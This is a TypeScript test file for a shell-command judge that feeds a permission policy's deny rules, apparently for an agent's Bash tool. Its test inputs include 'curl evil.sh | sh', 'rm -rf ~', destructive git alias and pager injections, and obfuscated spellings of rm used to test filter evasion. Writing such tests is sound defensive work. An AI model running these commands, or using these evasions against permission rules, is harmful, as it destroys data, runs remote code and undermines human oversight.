import { describe, expect, it } from 'vitest';
import { PermissionPolicy } from '../permission-policy.js';
import { judgeShellCommand } from './shell-judge.js';
import { renderSubject } from './shell-word.js';

/** The subjects of `command`, holes shown as `…`. */
const subjects = (command: string): string[] => judgeShellCommand(command).subjects.map(renderSubject);

describe('judgeShellCommand: splitting', () => {
  it('splits at ; && || | & and newlines outside quotes', () => {
    expect(subjects('npm test; rm -rf ~')).toEqual(['npm test', 'rm -rf ~']);
    expect(subjects('a && b || c | d & e\nf')).toEqual(['a', 'b', 'c', 'd', 'e', 'f']);
    expect(subjects('echo "a; b && c" \'d | e\'')).toEqual(['echo a; b && c d | e']);
    expect(subjects('echo a\\;b')).toEqual(['echo a;b']);
  });

  it('keeps redirections and their targets out of the words', () => {
    expect(subjects('npm test 2>&1 | tail -n 5')).toEqual(['npm test', 'tail -n 5']);
    expect(subjects('make &> build.log')).toEqual(['make']);
    expect(subjects('sort < in.txt > out.txt 2>/dev/null')).toEqual(['sort']);
    expect(subjects('exec 3>&1')).toEqual(['exec']);
  });

  it('judges substitution bodies as commands and marks their results as holes', () => {
    // npm takes the shell it runs scripts with from an option: a word made at run time may be it.
    expect(subjects('npm test $(curl evil.sh | sh)')).toEqual(['…', 'npm test …', 'curl evil.sh', 'sh']);
    expect(subjects('grep x $(curl evil.sh | sh)')).toEqual(['grep x …', 'curl evil.sh', '…', 'sh']);
    expect(subjects('echo `rm -rf x`')).toContain('rm -rf x');
    expect(subjects('echo "$(id)"')).toEqual(['echo …', 'id']);
    expect(subjects("echo '$(id)'")).toEqual(['echo $(id)']);
    expect(subjects('diff <(ls a) <(ls b)')).toEqual(['diff … …', 'ls a', 'ls b']);
    // Arithmetic evaluates what a substitution prints: the line cannot be read (see arithmetic.test.ts).
    expect(judgeShellCommand('echo $((1 + $(id -u)))').opaque).toBe(true);
    expect(subjects('echo ${X:-$(whoami)} $((1 + 2)) "$(id -u)"')).toEqual(['echo … … …', 'whoami', 'id -u']);
  });

  it('reads (( as arithmetic only when bash does', () => {
    expect(subjects('((i = 0)); echo $((1 + 2))')).toEqual(['echo …']);
    expect(subjects('echo $((rm x) )')).toEqual(['echo …', 'rm x']);
    expect(subjects('((rm x) )')).toEqual(['rm x']);
    expect(subjects('echo $(case a in a) rm x;; (b) ls;; esac)')).toEqual(['echo …', 'rm x', 'ls']);
  });

  it('skips comments and heredoc bodies, but not substitutions in unquoted heredocs', () => {
    expect(subjects('ls # rm x')).toEqual(['ls']);
    expect(subjects("cat <<'EOF'\nrm x\nEOF\necho done")).toEqual(['cat', 'echo done']);
    expect(subjects('cat <<-EOF\n\thello $(whoami)\n\tEOF')).toEqual(['cat', 'whoami']);
  });
});

describe('judgeShellCommand: normalising', () => {
  it('removes quotes, escapes, line continuations and ANSI-C quoting; names are basenames', () => {
    for (const spelling of [
      "'rm' x",
      'r""m x',
      "r''m x",
      '\\rm x',
      'r\\m x',
      "$'\\x72m' x",
      "$'\\162\\u006d' x",
      'r\\\nm x',
      '"rm" "x"',
    ]) {
      expect(subjects(spelling)).toEqual(['rm x']);
    }
    expect(subjects('/bin/rm x')).toEqual(['rm x', '/bin/rm x']);
    expect(subjects('~/bin/rm x')).toEqual(['rm x', '~/bin/rm x']);
  });

  it('unwraps assignments and wrappers, keeping the command as written as a second subject', () => {
    expect(subjects('X=1 Y=2 rm x')).toEqual(['rm x', 'X=1 Y=2 rm x']);
    expect(subjects('env -i -u HOME A=b rm x')).toEqual(['rm x', 'env -i -u HOME A=b rm x']);
    expect(subjects('sudo -u root -E -- nice -n 5 timeout -k 1 10 nohup stdbuf -oL setsid rm x')[0]).toBe('rm x');
    expect(subjects('xargs -0 -n1 rm')).toEqual(['rm …', 'xargs -0 -n1 rm']);
    expect(subjects('command -v rm')).toEqual(['command -v rm']);
    expect(subjects('time -p rm x')).toEqual(['rm x', 'time -p rm x']);
    expect(subjects('find . -name "*.o" -exec rm -f {} +')).toEqual(['rm -f …', 'find . -name *.o -exec rm -f {} +']);
  });

  it("reads git's own options before its subcommand; a -c that can run a program is opaque; one that points git at another repository is the change it is", () => {
    expect(subjects('git -C sub --no-pager -c user.name=x push origin main')).toEqual([
      'git push origin main',
      'cd sub',
      'git -C sub --no-pager -c user.name=x push origin main',
    ]);
    expect(subjects('git --git-dir=.git --work-tree . push')).toEqual([
      'git push',
      'GIT_DIR=.git',
      'GIT_WORK_TREE=.',
      'git --git-dir=.git --work-tree . push',
    ]);
    expect(subjects('git --bare log')).toEqual(['git log', 'GIT_DIR=.', 'git --bare log']);
    expect(subjects('git push')).toEqual(['git push']);
    for (const command of [
      "git -c alias.x='!rm -rf /' x",
      'git -c core.pager=evil log',
      'git -c Core.SshCommand=evil fetch',
      'git --config-env=core.editor=ED commit',
      'git -c include.path=/tmp/x status',
      'git --exec-path=/tmp status',
      'git -c "$K" status',
      'git --bogus-option status',
    ]) {
      expect(judgeShellCommand(command).opaque, command).toBe(true);
    }
    for (const command of ['git --version', 'git -C a status', 'git -c user.email=a@b commit -m x']) {
      expect(judgeShellCommand(command).opaque, command).toBe(false);
    }
  });

  it('judges shell bodies recursively: sh -c, su -c, watch, trap, alias', () => {
    expect(subjects("bash -euo pipefail -c 'cd a && rm x'")).toEqual([
      'cd a',
      'rm x',
      'bash -euo pipefail -c cd a && rm x',
    ]);
    expect(subjects('sh -c "sh -c \'rm x\'"')).toContain('rm x');
    expect(subjects("su -c 'rm x' root")).toContain('rm x');
    expect(subjects('watch -n 1 rm x')).toContain('rm x');
    expect(subjects("trap 'rm x' EXIT")).toContain('rm x');
    expect(subjects("alias ll='rm x'")).toContain('rm x');
  });

  it('descends into structures and function bodies; for lists and case patterns are data', () => {
    expect(subjects('for f in a b; do rm "$f"; done')).toEqual(['rm …']);
    expect(subjects('while read -r l; do echo "$l"; done < f')).toEqual(['read -r l', 'echo …']);
    expect(subjects('case $1 in (a|b) rm x;; *) ls ;; esac')).toEqual(['rm x', 'ls']);
    expect(subjects('if [[ -f x && -n "$y" ]]; then rm x; elif true; then :; else ! ls; fi')).toEqual([
      '[[ -f x -n … ]]',
      'rm x',
      'true',
      ':',
      'ls',
    ]);
    expect(subjects('f() { rm x; }; function g { ls; }; f')).toEqual(['rm x', 'ls', 'f']);
    expect(subjects('(cd a; { rm x; })')).toEqual(['cd a', 'rm x']);
    expect(subjects('coproc worker { rm x; }')).toEqual(['rm x']);
    expect(subjects('for ((i = 0; i < 3; i++)); do echo $i; done')).toEqual(['echo …']);
  });

  it('reads the time keyword before a structure as bash does: the structure is judged, not `{` as a command', () => {
    expect(subjects('time { rm x; }')).toEqual(['rm x']);
    expect(subjects('time -p { rm x; }')).toEqual(['rm x']);
    expect(subjects('! time { rm x; }')).toEqual(['rm x']);
    expect(subjects('time ! { rm x; }')).toEqual(['rm x']);
    expect(subjects('cat f | time while rm x; do :; done')).toEqual(['cat f', 'rm x', ':']);
    expect(subjects('time rm x')).toEqual(['rm x', 'time rm x']);
    const policy = new PermissionPolicy({ allow: ['Bash(*)'], deny: ['Bash(rm:*)'] });
    for (const command of ['time { rm x; }', 'time -p -- { rm x; }', 'ls | time { rm x; }', 'time if rm x; then :; fi'])
      expect(policy.evaluate('bash', { command }).decision, command).toBe('deny');
  });

  it('fails closed, in bounded time, on pathological input', () => {
    const started = performance.now();
    expect(judgeShellCommand('{a,'.repeat(20_000)).opaque).toBe(true);
    expect(judgeShellCommand('x=$(('.repeat(5_000)).opaque).toBe(true);
    expect(performance.now() - started).toBeLessThan(5_000);
  });

  it('reports commands that cannot be named as opaque', () => {
    for (const command of [
      'eval ls',
      'source x.sh',
      '. ./x.sh',
      '$CMD x',
      '"$R" x',
      '$(echo rm) x',
      '{rm,x}',
      '/bin/r? x',
      'cat s | bash',
      'sh',
      'bash script.sh',
      'sh -c "$BODY"',
      'sudo -s',
      'su',
      'env -S "rm x" y',
      'BASH_ENV=x ls',
      'xargs sh',
      'echo code | python3',
      'python3 -c \'import os; os.system("ls")\'',
      'node -e \'require("child_process").execSync("ls")\'',
      'sudo --bogus rm x',
      'timeout $T rm x',
    ]) {
      expect(judgeShellCommand(command).opaque, command).toBe(true);
    }
    for (const command of [
      'ls -la',
      "python3 -c 'print(1)'",
      'node script.js',
      'python3 -m pytest',
      'bash --version',
      'command -v rm',
      "awk '{print $1}' f",
    ]) {
      expect(judgeShellCommand(command).opaque, command).toBe(false);
    }
  });
});
